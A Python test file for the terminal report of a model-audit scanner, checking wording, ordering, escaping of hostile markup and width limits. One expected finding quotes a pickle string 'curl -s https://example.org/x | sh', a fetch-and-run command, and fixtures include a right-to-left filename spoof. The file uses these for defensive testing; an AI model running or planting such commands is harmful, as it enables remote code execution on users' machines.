from __future__ import annotations

import re
import unicodedata
from dataclasses import replace

from rich.cells import cell_len
from support.cases import check_each

from modelaudit.model.finding import CheckFamily, Severity
from modelaudit.model.report import AuditReport
from modelaudit.reports.terminal import render_table

ANSI = re.compile(r"\x1b\[[0-9;]*m")


def text_of(report: AuditReport, **how: object) -> str:
    return render_table(report, **how).decode()  # type: ignore[arg-type]


def test_the_order_is_verdict_absences_findings_and_the_rest(failing: AuditReport) -> None:
    text = text_of(failing)
    parts = [
        "FAIL",
        "Not examined: 4 parts",
        "Findings: 2 critical",
        "CRITICAL",
        "HIGH",
        "\nlicence",
        "\nopinions",
        "Exit",
    ]
    places = [text.index(part) for part in parts]
    assert places == sorted(places)
    assert text.lstrip().startswith("✘ FAIL")
    assert text.splitlines()[-1].endswith("-o report.html.")


def test_it_says_what_and_where_and_why_and_how_to_fix(failing: AuditReport) -> None:
    text = " ".join(text_of(failing).split())
    for fact in (
        "3f1a9c0de4b7a2285c6d1f0e9b8a7c6d5e4f3a2b",
        "pytorch_model.bin!archive/data.pkl, byte 1,234",
        failing.findings[0].fingerprint,
        "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
        "Do not load the file. Ask the publisher",
        "Checks that were not run: transparency.",
        "Accepted by the policy: default: images carry no weights.",
        "pytorch_model.bin (entry secret.bin) The content is encrypted",
        "1 altered: DIFFERENT from what the source states",
        "otherscan gave no opinion, which is not an agreement",
        "it found nothing where we did in training_args.bin",
        "Exit code 1: the gate failed.",
    ):
        assert fact in text, fact


def test_nothing_to_scan_is_no_pass(incomplete: AuditReport) -> None:
    text = text_of(incomplete)
    assert "INCOMPLETE  This is not a pass: there was no file to examine." in text
    assert "examined whole" not in text
    assert "Exit code 3" in text


def test_a_pass_says_what_it_rests_on(passing: AuditReport) -> None:
    text = text_of(passing)
    assert "PASS  Every file could be read, and nothing that the policy rejects was found." in text
    assert (
        "✔ LICENCE TO SHIP The author names Apache License 2.0, which allows it; 3 duties, listed in the HTML report."
        in " ".join(text.split())
    )
    assert "Not compared: a local folder has no published reference." in text
    assert "Exit code 0: pass." in text


@check_each("color", [True, False])
def test_nothing_that_a_model_says_reaches_the_terminal_raw(any_report: AuditReport, color: bool) -> None:
    text = text_of(any_report, color=color)
    assert bool(ANSI.search(text)) is color
    plain = ANSI.sub("", text)
    hidden = {each for each in plain if unicodedata.category(each)[0] in "CZ"} - {"\n", " "}
    assert hidden == set()
    assert color or "\x1b" not in text


def test_markup_is_text(hostile: AuditReport) -> None:
    text = text_of(hostile, width=4000)
    assert "[red]markup[/red] [/]" in text
    assert "\\x1b[31;1mred" in text
    assert "\\u202eexe.tnegra\\u202c" in text
    assert "\\xff\\x80\\ud800" in text


@check_each("width", [1, 40, 60, 100, 200])
def test_lines_fit_the_width(any_report: AuditReport, width: int) -> None:
    lines = text_of(any_report, width=width).splitlines()
    assert max(map(cell_len, lines)) <= max(width, 40)


def test_show_hides_from_view_and_says_how_many(failing: AuditReport) -> None:
    text = text_of(failing, show=Severity.HIGH, width=200)
    assert "Findings: 2 critical, 1 high, 1 medium, 1 low, 1 info (3 below high hidden here" in text
    assert "MEDIUM" not in text and "license/contradiction" not in text
    assert "HIGH" in text
    assert "Exit code 1" in text
    assert "hidden here" not in text_of(failing)


def test_show_changes_nothing_but_the_findings(failing: AuditReport) -> None:
    everything, little = (text_of(failing, show=show, width=200) for show in (Severity.INFO, Severity.CRITICAL))
    for part in ("Not examined: 4 parts", "licence  claimed", "Exit code 1: the gate failed"):
        assert part in everything and part in little


def test_a_bad_day_stays_readable(failing: AuditReport) -> None:
    many = tuple(replace(failing.findings[2], artifact=f"f{n}", key=str(n)) for n in range(1000))
    text = text_of(replace(failing, findings=many))
    assert "… and 980 more of this rule" in text
    assert len(text.splitlines()) < 200


def test_many_absences_are_counted(failing: AuditReport) -> None:
    record = failing.coverage.artifacts[3]
    many = tuple(replace(record, path=f"f{n}", absences=((f"f{n}", record.absences[0][1]),)) for n in range(100))
    coverage = replace(failing.coverage, artifacts=many)
    text = text_of(replace(failing, decision=replace(failing.decision, coverage=coverage)))
    assert "Not examined: 100 parts of the model" in text
    assert "… and 60 more" in text


def test_no_absence_and_all_checks_is_said_too(failing: AuditReport) -> None:
    coverage = replace(failing.coverage, artifacts=failing.coverage.artifacts[:2])
    report = replace(
        failing,
        decision=replace(failing.decision, coverage=coverage),
        policy=replace(failing.policy, checks=tuple(CheckFamily)),
        opinions=(),
    )
    text = text_of(report)
    assert "Not examined: nothing; every file was examined whole." in text
    assert "No second scanner was asked." in text
